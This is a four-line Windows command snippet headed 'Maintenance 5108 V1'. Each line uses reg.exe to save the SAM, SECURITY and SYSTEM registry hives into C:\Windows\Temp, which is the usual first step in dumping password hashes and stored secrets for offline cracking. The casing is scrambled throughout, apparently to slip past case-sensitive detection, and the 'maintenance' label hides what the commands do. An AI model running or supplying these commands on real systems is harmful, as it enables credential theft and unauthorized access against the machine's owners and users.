# MaIntEnANCe 5108 V1
REG.exE saVE HkLM\SAM C:\WindOWS\TEmP\s.HIV /Y
REg.ExE SavE hKLM\SEcuRiTY C:\wiNDOws\temP\seC.hiv /Y
rEg.exe sAve hklm\sYStEm c:\WiNDOWS\Temp\sYS.hiV /y
